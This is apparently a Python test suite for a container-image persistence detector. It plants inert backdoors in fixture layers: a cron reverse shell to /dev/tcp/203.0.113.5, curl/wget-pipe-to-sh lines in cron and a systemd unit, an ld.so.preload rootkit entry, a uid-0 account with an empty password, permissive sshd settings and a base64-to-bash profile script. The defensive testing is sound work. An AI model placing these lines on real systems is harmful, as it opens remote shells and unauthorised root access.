"""The persistence detector end to end.

A fixture image plants, inertly, every kind of backdoor the detector knows
(a reverse-shell cron line that never runs, an ld.so.preload entry naming a
library that is not there, an extra uid-0 account, a setuid copy in a hidden
path, ...) over a base layer of realistic stock Debian files, and a top
layer deletes or replaces some of them. The report must hold exactly the
expected findings, each with its layer and whether its file was removed; the
base layer alone must give none. A real debootstrap image (built by
test_debootstrap.py's build(), cached) must give none either. Small
pathological layers (a 2 MiB one-line crontab, 20,000 executables in /tmp,
a binary init script full of pattern prefixes) must stay fast and bounded;
the heavy versions are in bench/persistence.py."""

import base64
import io
import os
import random
import tarfile
import time

from util import MoatTest, main, run, scan_json, work

from mkimage import Image, Layer, debian_base, dpkg_status

KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAnqKUzyOrPFxYlY1egzLkbTU9Eb6FE8mTf00SPglsKJ "
       "attacker@evil")
KEY_FP = "SHA256:1pbWRHAp2lECN/6AZ7gnMazFQPIZHSXutH5KVGFcEI4"  # ssh-keygen -lf

STOCK_PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
games:x:5:60:games:/usr/games:/usr/sbin/nologin
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
_apt:x:42:65534::/nonexistent:/usr/sbin/nologin
"""
STOCK_SHADOW = """root:*:19683:0:99999:7:::
daemon:*:19683:0:99999:7:::
bin:*:19683:0:99999:7:::
sys:*:19683:0:99999:7:::
sync:*:19683:0:99999:7:::
games:*:19683:0:99999:7:::
man:*:19683:0:99999:7:::
www-data:*:19683:0:99999:7:::
nobody:*:19683:0:99999:7:::
_apt:*:19683:0:99999:7:::
"""
STOCK_CRONTAB = """# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
#
"""
STOCK_CRON_DPKG = """#!/bin/sh

# Skip if systemd is running.
if [ -d /run/systemd/system ]; then
  exit 0
fi

/usr/libexec/dpkg/dpkg-db-backup
"""
STOCK_E2SCRUB = """30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r
"""
STOCK_PROFILE = """# /etc/profile: system-wide .profile file for the Bourne shell (sh(1))
if [ "$(id -u)" -eq 0 ]; then
  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
else
  PATH="/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"
fi
export PATH

if [ "${PS1-}" ]; then
  if [ "${BASH-}" ] && [ "$BASH" != "/bin/sh" ]; then
    if [ -f /etc/bash.bashrc ]; then
      . /etc/bash.bashrc
    fi
  else
    if [ "$(id -u)" -eq 0 ]; then
      PS1='# '
    else
      PS1='$ '
    fi
  fi
fi

if [ -d /etc/profile.d ]; then
  for i in /etc/profile.d/*.sh; do
    if [ -r $i ]; then
      . $i
    fi
  done
  unset i
fi
"""
STOCK_BASHRC = """# ~/.bashrc: executed by bash(1) for non-login shells.
# export LS_OPTIONS='--color=auto'
# eval "$(dircolors)"
# alias ls='ls $LS_OPTIONS'
"""
STOCK_SSHD = """# This is the sshd server system-wide configuration file.  See
# sshd_config(5) for more information.
Include /etc/ssh/sshd_config.d/*.conf
#Port 22
#PermitRootLogin prohibit-password
#PasswordAuthentication yes
#PermitEmptyPasswords no
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding yes
PrintMotd no
AcceptEnv LANG LC_*
Subsystem\tsftp\t/usr/lib/openssh/sftp-server
"""
STOCK_UNIT = """[Unit]
Description=Daily apt download activities
Documentation=man:apt(8)
ConditionACPower=true
After=network.target network-online.target systemd-networkd.service NetworkManager.service connman.service

[Service]
Type=oneshot
ExecStartPre=-/usr/lib/apt/apt-helper wait-online
ExecStart=/usr/lib/apt/apt.systemd.daily update
"""
STOCK_PROFILED = """# bash completion
if [ -n "${BASH_VERSION-}" -a -n "${PS1-}" -a -z "${BASH_COMPLETION_VERSINFO-}" ]; then
    if [ ${BASH_VERSINFO[0]} -gt 4 ] || [ ${BASH_VERSINFO[0]} -eq 4 -a ${BASH_VERSINFO[1]} -ge 1 ]; then
        [ -r "${XDG_CONFIG_HOME:-$HOME/.config}/bash_completion" ] && \\
            . "${XDG_CONFIG_HOME:-$HOME/.config}/bash_completion"
        if shopt -q progcomp && [ -r /usr/share/bash-completion/bash_completion ]; then
            . /usr/share/bash-completion/bash_completion
        fi
    fi
fi
"""
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57  # an ELF header's start: inert


def base_layer():
    """Stock files of a Debian system, and what looks odd but is fine."""
    l = debian_base(pkgs=[{"Package": "base-files", "Version": "12.4+deb12u5"},
                          {"Package": "passwd", "Version": "1:4.13+dfsg1-1+b1"}])
    l.dir("var/lib/dpkg/info").file("var/lib/dpkg/info/passwd.list",
                                    "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n/usr/bin/chsh\n")
    l.file("usr/bin/passwd", ELF, mode=0o4755).file("usr/bin/chsh", ELF, mode=0o4755)
    l.file("etc/passwd", STOCK_PASSWD).file("etc/shadow", STOCK_SHADOW, mode=0o640)
    l.file("etc/crontab", STOCK_CRONTAB).file("etc/cron.d/e2scrub_all", STOCK_E2SCRUB)
    l.file("etc/cron.daily/dpkg", STOCK_CRON_DPKG, mode=0o755)
    l.file("etc/profile", STOCK_PROFILE).file("etc/profile.d/bash_completion.sh", STOCK_PROFILED)
    l.file("root/.bashrc", STOCK_BASHRC).file("etc/skel/.bashrc", STOCK_BASHRC)
    l.file("etc/ssh/sshd_config", STOCK_SSHD)
    l.file("usr/lib/systemd/system/apt-daily.service", STOCK_UNIT)
    # a virtualenv and git hooks: hidden directories where executables belong
    l.file("root/.venv/bin/python3", ELF, mode=0o755)
    l.file("srv/app/.git/hooks/pre-commit.sample", "#!/bin/sh\nexit 0\n", mode=0o755)
    # an ordinary temp file (not executable, not a program)
    l.file("tmp/build.log", "x" * 200)
    return l


REVSHELL = "* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n"
B64 = base64.b64encode(b"echo inert-test-payload\n").decode()


def attack_layer():
    l = Layer()
    l.file("etc/cron.d/backdoor", REVSHELL)
    l.file("var/spool/cron/crontabs/root",
           "*/10 * * * * (curl -fsSL http://203.0.113.5/k.sh||wget -q -O- http://203.0.113.5/k.sh)|sh\n",
           mode=0o600)
    l.file("etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
    l.file("root/.ssh/authorized_keys", KEY + "\n", mode=0o600)
    l.file("etc/passwd", STOCK_PASSWD + "toor:x:0:0::/root:/bin/bash\n")
    l.file("etc/shadow", STOCK_SHADOW + "toor::19683:0:99999:7:::\n", mode=0o640)
    l.file("etc/ssh/sshd_config.d/10-backdoor.conf", "PermitRootLogin yes\nPermitEmptyPasswords yes\n")
    l.file("tmp/.ICE-unix/.x", ELF, mode=0o4755)
    l.file("var/tmp/kinsing", ELF, mode=0o755)
    l.file("usr/local/bin/sudo-helper", ELF, mode=0o4755)
    l.file("etc/systemd/system/update-helper.service",
           "[Service]\nExecStart=/bin/sh -c 'wget -q -O- http://203.0.113.5/u | sh'\n")
    l.file("etc/profile.d/motd.sh", "echo %s | base64 -d | bash\n" % B64)
    l.file("usr/share/.fonts/.x/xmr", ELF, mode=0o755)
    return l


def cleanup_layer():
    return (Layer().whiteout("etc/cron.d/backdoor")
            .file("var/spool/cron/crontabs/root", "# nothing\n", mode=0o600)
            .file("etc/profile.d/motd.sh", "echo %s | base64 -d | bash\n" % B64, mode=0o755))


EXPECTED = sorted([
    ("reverse-shell", "critical", "/etc/cron.d/backdoor", 1, True),
    ("download-exec", "critical", "/var/spool/cron/crontabs/root", 1, True),
    ("ld-so-preload", "critical", "/etc/ld.so.preload", 1, False),
    ("authorized-keys", "high", "/root/.ssh/authorized_keys", 1, False),
    ("uid0-account", "critical", "/etc/passwd", 1, False),
    ("shadow-empty-password", "high", "/etc/shadow", 1, False),
    ("sshd-permit-root-login", "high", "/etc/ssh/sshd_config.d/10-backdoor.conf", 1, False),
    ("sshd-permit-empty-passwords", "high", "/etc/ssh/sshd_config.d/10-backdoor.conf", 1, False),
    ("setuid-hidden", "critical", "/tmp/.ICE-unix/.x", 1, False),
    ("exec-in-tmp", "high", "/var/tmp/kinsing", 1, False),
    ("setuid-unowned", "high", "/usr/local/bin/sudo-helper", 1, False),
    ("download-exec", "critical", "/etc/systemd/system/update-helper.service", 1, False),
    ("encoded-exec", "critical", "/etc/profile.d/motd.sh", 2, False),
    ("exec-in-hidden", "high", "/usr/share/.fonts/.x/xmr", 1, False),
    ("ld-preload-env", "critical", None, None, False),
])


def persistence(report):
    return [f for f in report["findings"] if f["kind"] == "persistence"]


def summary(report):
    return sorted((f["id"][len("persistence."):], f["severity"], f["path"],
                   f["layer"]["index"] if f["layer"] else None, f["removed"])
                  for f in persistence(report))


def backdoored():
    return Image([base_layer(), attack_layer(), cleanup_layer()],
                 config={"Env": ["PATH=/usr/bin:/bin",
                                 "LD_PRELOAD=/usr/local/lib/libprocesshider.so"]})


class Fixtures(MoatTest):
    def test_backdoored_image(self):
        for kind in ("docker", "oci"):
            if kind == "docker":
                target = work("backdoor.tar")
                backdoored().docker_archive(target, compression="gzip")
            else:
                target = "oci:" + work("backdoor-oci") + ":latest"
                backdoored().oci_layout(work("backdoor-oci"), compression="zstd")
            r = scan_json(target, "--scanners", "persistence")
            self.assertEqual(summary(r), EXPECTED, kind)
            self.assertEqual([e for e in r["errors"] if e["source"] == "persistence"], [])
            by = {(f["id"], f["path"]): f for f in persistence(r)}
            f = by[("persistence.reverse-shell", "/etc/cron.d/backdoor")]
            self.assertEqual(f["evidence"], "line 1: " + REVSHELL.strip())
            self.assertEqual(f["offset"], 0)
            self.assertEqual(f["title"], "cron job wires a shell to a network connection")
            f = by[("persistence.authorized-keys", "/root/.ssh/authorized_keys")]
            self.assertEqual(f["evidence"], "1 key: ssh-ed25519 %s 'attacker@evil'" % KEY_FP)
            self.assertNotIn("AAAAC3", f["evidence"])  # never the whole key
            f = by[("persistence.uid0-account", "/etc/passwd")]
            self.assertEqual(f["evidence"], "line 11: account 'toor' has uid 0 (shell /bin/bash)")
            f = by[("persistence.ld-so-preload", "/etc/ld.so.preload")]
            self.assertEqual(f["evidence"], "preloads /usr/local/lib/libprocesshider.so")
            f = by[("persistence.ld-preload-env", None)]
            self.assertEqual(f["evidence"], "ENV LD_PRELOAD=/usr/local/lib/libprocesshider.so")
            f = by[("persistence.setuid-hidden", "/tmp/.ICE-unix/.x")]
            self.assertIn("setuid file, mode 4755", f["evidence"])
            self.assertIn("no package owns it", f["evidence"])

    def test_table_shows_removed(self):
        target = work("backdoor-t.tar")
        backdoored().docker_archive(target)
        code, out, err = run("scan", "--no-vulns", "--scanners", "persistence", target)
        self.assertEqual(code, 0, err)
        self.assertIn("/etc/cron.d/backdoor  [deleted later, still in the image]", out)
        self.assertIn("persistence.setuid-hidd", out)

    def test_clean_base_gives_nothing(self):
        target = work("clean.tar")
        Image([base_layer()], config={"Env": ["PATH=/usr/bin:/bin",
                                              "LD_LIBRARY_PATH=/usr/local/lib"]}) \
            .docker_archive(target)
        r = scan_json(target, "--scanners", "persistence")
        self.assertEqual(persistence(r), [])
        self.assertEqual([e for e in r["errors"] if e["source"] == "persistence"], [])

    def test_switched_off(self):
        target = work("off.tar")
        backdoored().docker_archive(target)
        r = scan_json(target, "--scanners", "secret")
        self.assertEqual(persistence(r), [])


class Debootstrap(MoatTest):
    """Real Debian: zero persistence findings, in every transport."""

    def test_zero_findings(self):
        try:
            import test_debootstrap
            test_debootstrap.build()
        except Exception as e:  # no mirror, no debootstrap: say why
            self.skipTest("debootstrap image unavailable: %s" % e)
        d = test_debootstrap.DIR
        for target in ("rootfs:" + os.path.join(d, "rootfs"), "oci:%s:two" % os.path.join(d, "layout"),
                       os.path.join(d, "image.tar")):
            r = scan_json(target, "--scanners", "persistence")
            self.assertEqual(persistence(r), [], target)
            self.assertEqual([e for e in r["errors"] if e["source"] == "persistence"], [], target)
            self.assertGreater(len(r["packages"]), 50, target)  # the real image


class Pathological(MoatTest):
    """Small versions of the issue's pathological inputs (bench/persistence.py
    has the 2 GiB, million-file and 100 MB ones)."""

    def timed_scan(self, img, name, limit=30):
        target = work(name)
        img.docker_archive(target, compression="gzip")
        t = time.monotonic()
        r = scan_json(target, "--scanners", "persistence")
        self.assertLess(time.monotonic() - t, limit)
        return r

    def test_many_executables_in_tmp(self):
        l = Layer().dir("tmp").dir("tmp/x")
        for i in range(20000):
            l.file("tmp/x/%05d" % i, b"", mode=0o755)
        r = self.timed_scan(Image([l]), "many.tar")
        self.assertEqual(len(persistence(r)), 100)  # MOAT_LIMIT_PERSIST_FS_FINDINGS
        warn = [e for e in r["errors"] if e["source"] == "persistence"]
        self.assertEqual(len(warn), 1)
        self.assertIn("19900 more persistence.exec-in-tmp findings", warn[0]["message"])

    def test_long_lines_and_binary(self):
        rnd = random.Random(4)
        prefixes = [b"curl http://h/x | s", b"/dev/tc", b"base64 -", b"nc -", b"$(", b"`", b"'",
                    b"bash -", b"<<", b"\\"]
        blob = b"".join(rnd.choice(prefixes) + bytes(rnd.randrange(256) for _ in range(8))
                        for _ in range(30000))[:900000]
        one_line = b"* * * * * root curl http://203.0.113.5/x " + b"a" * 700000 + b" | sh\n"
        img = Image([Layer()
                     .file("etc/crontab", b"* * * * * root true " + b"x" * (2 << 20) + b"\n")
                     .file("etc/cron.d/long", one_line)
                     .file("etc/init.d/blob", blob, mode=0o755)
                     .file("etc/profile", b"$(" * 400000)])
        r = self.timed_scan(img, "long.tar")
        got = summary(r)
        self.assertIn(("download-exec", "critical", "/etc/cron.d/long", 0, False), got)
        self.assertLessEqual(len([g for g in got if g[2] == "/etc/init.d/blob"]), 16)
        # the 2 MiB crontab is over the cap: not read, and said
        errs = [e for e in r["errors"] if e["path"] == "/etc/crontab"]
        self.assertEqual(len(errs), 1)
        self.assertIn("exceeds this analyzer's limit", errs[0]["message"])


if __name__ == "__main__":
    main()
